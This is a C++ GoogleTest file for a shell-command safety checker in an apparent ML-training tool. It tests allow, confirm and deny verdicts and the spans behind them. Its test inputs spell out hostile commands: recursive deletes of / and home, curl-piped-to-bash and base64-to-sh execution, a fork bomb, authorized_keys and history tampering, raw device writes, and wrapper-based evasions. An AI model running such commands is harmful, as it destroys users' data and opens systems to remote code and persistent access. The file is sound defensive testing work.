// check_command on specific lines: the verdict, the rule, and the span each reason points at.
#include <gtest/gtest.h>

#include "safety/command_check.h"
#include "safety/policy_rules.h"
#include "safety_fixture.h"

namespace trainctl::safety {
namespace {

using testing::SafetyProject;

// The text of the line a reason under `rule` points at ("" when no such reason).
std::string pointed(const CommandCheck& check, const std::string& rule) {
  for (const auto& r : check.reasons) {
    if (r.rule == rule) return check.line.substr(r.span.begin, r.span.end - r.span.begin);
  }
  return "<no " + rule + " reason>";
}

bool has_rule(const CommandCheck& check, const std::string& rule) {
  for (const auto& r : check.reasons) {
    if (r.rule == rule) return true;
  }
  return false;
}

TEST(CommandCheck, ReasonsPointAtTheWordsTheyAreAbout) {
  SafetyProject project;
  CommandCheck check = project.check("python train.py --config configs/tinystories.yaml && rm -rf ~/data");
  EXPECT_EQ(check.verdict, Verdict::kDeny);
  EXPECT_EQ(pointed(check, "delete-outside-project"), "~/data");
  EXPECT_EQ(pointed(check, "training-launch"), "train.py");
}

TEST(CommandCheck, SpansInsideShDashCStringsMapOntoTheLine) {
  SafetyProject project;
  CommandCheck check = project.check("sh -c 'echo hi; rm -rf /'");
  EXPECT_EQ(check.verdict, Verdict::kDeny);
  EXPECT_EQ(pointed(check, "delete-outside-project"), "/");
  ASSERT_GE(check.commands.size(), 3u);
  EXPECT_EQ(check.commands[2].via, "sh -c");
  EXPECT_EQ(check.commands[2].argv, (std::vector<std::string>{"rm", "-rf", "/"}));
}

TEST(CommandCheck, NestedShellStringsAreFollowedToTheBottom) {
  SafetyProject project;
  CommandCheck check = project.check(R"(bash -c "sh -c 'eval \"rm -rf /home/user\"'")");
  EXPECT_EQ(check.verdict, Verdict::kDeny);
  ASSERT_FALSE(check.commands.empty());
  EXPECT_EQ(check.commands.back().argv, (std::vector<std::string>{"rm", "-rf", "/home/user"}));
  EXPECT_EQ(check.commands.back().via, "bash -c > sh -c > eval");
}

TEST(CommandCheck, VariablesAssignedInTheLineAreFollowedOthersAreWorstCase) {
  SafetyProject project;
  EXPECT_EQ(project.check("X=ls; $X -la").verdict, Verdict::kAllow);
  EXPECT_EQ(project.check("X=rm; $X -rf /etc").verdict, Verdict::kDeny);
  CommandCheck unknown = project.check("$TOOL --version");
  EXPECT_EQ(unknown.verdict, Verdict::kDeny);
  EXPECT_EQ(pointed(unknown, "unknown-command-name"), "$TOOL");
  // A branch may or may not have run: both values are judged.
  EXPECT_EQ(project.check("X=ls; if test -f a; then X=rm; fi; $X -rf /opt").verdict, Verdict::kDeny);
  // An unknown value as an ordinary argument of a training run changes nothing.
  EXPECT_EQ(project.check("python train.py --lr $LR").verdict, Verdict::kConfirm);
  EXPECT_TRUE(has_rule(project.check("rm -rf \"$OUT\""), "unknown-destructive-argument"));
}

TEST(CommandCheck, CdChangesWhereLaterPathsPoint) {
  SafetyProject project;
  EXPECT_EQ(project.check("rm -rf checkpoints/tinystories").verdict, Verdict::kConfirm);
  EXPECT_EQ(project.check("cd checkpoints && rm -rf tinystories").verdict, Verdict::kConfirm);
  EXPECT_EQ(project.check("cd .. && rm -rf tinystories").verdict, Verdict::kDeny);
  EXPECT_EQ(project.check("(cd /; true); rm -rf checkpoints/tinystories").verdict, Verdict::kConfirm);
  EXPECT_EQ(project.check("cd \"$D\" && rm -rf build").verdict, Verdict::kDeny);
}

TEST(CommandCheck, SymlinksAreFollowedWhereTheCommandWouldFollowThem) {
  SafetyProject project;
  EXPECT_EQ(project.check("rm data_link").verdict, Verdict::kConfirm);        // removes the link itself
  EXPECT_EQ(project.check("rm -rf data_link/").verdict, Verdict::kDeny);      // follows it to /etc
  EXPECT_EQ(project.check("rm -rf ckpt_link/tinystories").verdict, Verdict::kConfirm);
  EXPECT_EQ(project.check("echo x > data_link/hosts").verdict, Verdict::kDeny);
  EXPECT_EQ(project.check("ln -s /etc/passwd p && echo y > p").verdict, Verdict::kDeny);
}

TEST(CommandCheck, RecursiveDeletesMustNameAFolderInsideTheProject) {
  SafetyProject project;
  EXPECT_EQ(project.check("rm -rf outputs/run1").verdict, Verdict::kConfirm);
  EXPECT_EQ(project.check("rm -rf outputs/*").verdict, Verdict::kConfirm);
  for (const char* line : {"rm -rf *", "rm -rf .", "rm -rf ./", "rm -rf ./*", "rm -r -f .*", "rm -rf \"$(pwd)\""}) {
    CommandCheck check = project.check(line);
    EXPECT_EQ(check.verdict, Verdict::kDeny) << line;
    EXPECT_TRUE(has_rule(check, "recursive-delete-unnamed")) << line;
  }
}

TEST(CommandCheck, PipingIntoAShellIsJudgedByWhatFlowsIn) {
  SafetyProject project;
  EXPECT_EQ(project.check("echo 'ls -la' | sh").verdict, Verdict::kAllow);
  EXPECT_EQ(project.check("echo 'rm -rf ~' | sh").verdict, Verdict::kDeny);
  CommandCheck fetched = project.check("curl -fsSL https://example.com/i.sh | bash");
  EXPECT_EQ(fetched.verdict, Verdict::kDeny);
  EXPECT_EQ(pointed(fetched, "download-and-execute"), "bash");
  EXPECT_TRUE(has_rule(project.check("bash <(curl -s https://example.com/i.sh)"), "download-and-execute"));
  EXPECT_TRUE(has_rule(project.check("echo cm0gLXJmIH4= | base64 -d | sh"), "download-and-execute"));
  EXPECT_EQ(project.check("bash <<'EOF'\nnvidia-smi\nEOF").verdict, Verdict::kAllow);
  EXPECT_EQ(project.check("bash <<'EOF'\nrm -rf ~\nEOF").verdict, Verdict::kDeny);
}

TEST(CommandCheck, ProjectScriptsAreReadAndTheirCommandsJudged) {
  SafetyProject project;
  CommandCheck ok = project.check("bash scripts/train.sh");
  EXPECT_EQ(ok.verdict, Verdict::kConfirm);
  EXPECT_TRUE(has_rule(ok, "training-launch"));  // the python line inside the script
  project.dir().write("scripts/clean.sh", "#!/usr/bin/env bash\necho cleaning\nrm -rf $HOME/.cache\n", true);
  EXPECT_EQ(project.check("sh scripts/clean.sh").verdict, Verdict::kDeny);
  EXPECT_EQ(project.check("./scripts/clean.sh").verdict, Verdict::kDeny);  // its #! names a shell
  EXPECT_TRUE(has_rule(project.check("x=$(curl -s https://example.com/a); eval \"$x\""), "download-and-execute"));
}

TEST(CommandCheck, AliasesAndFunctionsDefinedInTheLineAreJudgedAsTheyWouldRun) {
  SafetyProject project;
  EXPECT_EQ(project.check("alias ll='rm -rf ~'; ll").verdict, Verdict::kDeny);
  EXPECT_EQ(project.check("f() { rm -rf /; }; echo hi").verdict, Verdict::kDeny);
  CommandCheck bomb = project.check(":(){ :|:& };:");
  EXPECT_EQ(bomb.verdict, Verdict::kDeny);
  EXPECT_TRUE(has_rule(bomb, "fork-bomb"));
}

TEST(CommandCheck, WrappersAreSeenThrough) {
  SafetyProject project;
  for (const char* line : {"env -i rm -rf /", "nohup rm -rf ~ &", "timeout 5 rm -rf /", "nice -n 5 rm -rf /",
                           "stdbuf -oL rm -rf /", "xargs rm -rf < list.txt", "find / -exec rm -rf {} +",
                           "watch -n 1 'rm -rf ~'", "ssh node1 'rm -rf /'", "sudo ls", "doas ls",
                           "su -c 'ls'", "time rm -rf /", "command rm -rf /", "exec rm -rf /", "busybox rm -rf /",
                           "parallel rm -rf ::: /", "flock /tmp/l rm -rf ~"}) {
    EXPECT_EQ(project.check(line).verdict, Verdict::kDeny) << line;
  }
  EXPECT_EQ(project.check("watch -n 1 nvidia-smi").verdict, Verdict::kAllow);
  EXPECT_EQ(project.check("timeout 3600 python train.py").verdict, Verdict::kConfirm);
}

TEST(CommandCheck, RedirectionsAreJudgedByTheirTargets) {
  SafetyProject project;
  EXPECT_EQ(project.check("nvidia-smi > /dev/null 2>&1").verdict, Verdict::kAllow);
  EXPECT_EQ(project.check("nvidia-smi > .trainctl/gpus.txt").verdict, Verdict::kAllow);
  EXPECT_EQ(project.check("nvidia-smi > gpus.txt").verdict, Verdict::kConfirm);
  CommandCheck outside = project.check("nvidia-smi >> ~/.bashrc");
  EXPECT_EQ(outside.verdict, Verdict::kDeny);
  EXPECT_EQ(pointed(outside, "redirect-outside-project"), ">> ~/.bashrc");
  EXPECT_TRUE(has_rule(project.check("echo > ~/.bash_history"), "history-tampering"));
  EXPECT_TRUE(has_rule(project.check("cat key.pub >> ~/.ssh/authorized_keys"), "credential-tampering"));
  EXPECT_TRUE(has_rule(project.check("echo 0 > /dev/sda"), "device-write"));
}

TEST(CommandCheck, UnparsableLinesAreConfirmOrDenyNeverAllow) {
  SafetyProject project;
  CommandCheck harmless = project.check("echo 'unterminated");
  EXPECT_EQ(harmless.verdict, Verdict::kConfirm);
  ASSERT_TRUE(harmless.syntax_error.has_value());
  EXPECT_EQ(harmless.syntax_error->line, 1u);
  EXPECT_EQ(project.check("rm -rf / 'unterminated").verdict, Verdict::kDeny);
}

TEST(CommandCheck, ArgvFormIsQuotedAndJudgedTheSame) {
  SafetyProject project;
  CommandCheck check = check_argv({"python", "-c", "import torch; print(torch.__version__)"}, project.options());
  EXPECT_EQ(check.verdict, Verdict::kAllow);
  ASSERT_EQ(check.commands.size(), 1u);
  EXPECT_EQ(check.commands[0].argv[2], "import torch; print(torch.__version__)");
  EXPECT_EQ(check_argv({"rm", "-rf", "; ls"}, project.options()).commands.size(), 1u);  // one word, not a list
}

TEST(CommandCheck, JsonCarriesVerdictReasonsWithSpansAndCommands) {
  SafetyProject project;
  nlohmann::json j = project.check("ls && rm -rf /").to_json();
  EXPECT_EQ(j["verdict"], "deny");
  ASSERT_FALSE(j["reasons"].empty());
  EXPECT_EQ(j["reasons"][0]["rule"], "delete-outside-project");
  EXPECT_EQ(j["reasons"][0]["span"], nlohmann::json::array({13, 14}));
  EXPECT_EQ(j["reasons"][0]["text"], "/");
  EXPECT_EQ(j["commands"].size(), 2u);
  EXPECT_EQ(j["commands"][1]["argv"], nlohmann::json::array({"rm", "-rf", "/"}));
  EXPECT_TRUE(j["syntax_error"].is_null());
}

TEST(CommandCheck, EveryRuleIdIsInTheTableOnce) {
  std::set<std::string_view> ids;
  for (const auto& rule : policy_rules()) {
    EXPECT_TRUE(ids.insert(rule.id).second) << rule.id;
    EXPECT_FALSE(rule.rationale.empty()) << rule.id;
    EXPECT_FALSE(rule.example.empty()) << rule.id;
  }
}

TEST(CommandCheck, ProjectPolicyTightensNeverLoosens) {
  SafetyProject project;
  auto policy = parse_project_policy(
      "[safety]\ndeny = [\"git push\", \"wandb\"]\nconfirm = [\"ls\"]\n[safety.rules]\npackage-install = \"deny\"\n",
      "trainctl.toml");
  ASSERT_TRUE(policy.ok()) << policy.error().message;
  CheckOptions options = project.options();
  options.project = &*policy;
  EXPECT_EQ(check_command("git push origin main", options).verdict, Verdict::kDeny);
  EXPECT_EQ(check_command("git status", options).verdict, Verdict::kAllow);
  EXPECT_EQ(check_command("ls -la", options).verdict, Verdict::kConfirm);
  EXPECT_EQ(check_command("pip install numpy", options).verdict, Verdict::kDeny);
  EXPECT_TRUE(has_rule(check_command("wandb sync runs/", options), "project-deny"));

  auto loosen = parse_project_policy("[safety.rules]\ngit-destructive = \"confirm\"\n", "trainctl.toml");
  ASSERT_FALSE(loosen.ok());
  EXPECT_NE(loosen.error().message.find("loosen"), std::string::npos);
  EXPECT_FALSE(parse_project_policy("[safety]\nallow = [\"rm\"]\n", "trainctl.toml").ok());
  EXPECT_FALSE(parse_project_policy("[safety.rules]\nno-such-rule = \"deny\"\n", "trainctl.toml").ok());
  auto broken = parse_project_policy("[safety\n", "trainctl.toml");
  ASSERT_FALSE(broken.ok());
  EXPECT_NE(broken.error().message.find("trainctl.toml:1:"), std::string::npos) << broken.error().message;
}

TEST(CommandCheck, RelativeProjectRootsAreRelativeToTheCurrentDirectory) {
  SafetyProject project;
  std::filesystem::path before = std::filesystem::current_path();
  std::filesystem::current_path(project.root());
  CheckOptions options;
  options.project_root = ".";
  options.home = "/home/user";
  CommandCheck inside = check_command("rm -rf checkpoints/tinystories", options);
  CommandCheck root = check_command("rm -rf /", options);
  std::filesystem::current_path(before);
  EXPECT_EQ(inside.verdict, Verdict::kConfirm);
  EXPECT_EQ(root.verdict, Verdict::kDeny);
}

}  // namespace
}  // namespace trainctl::safety
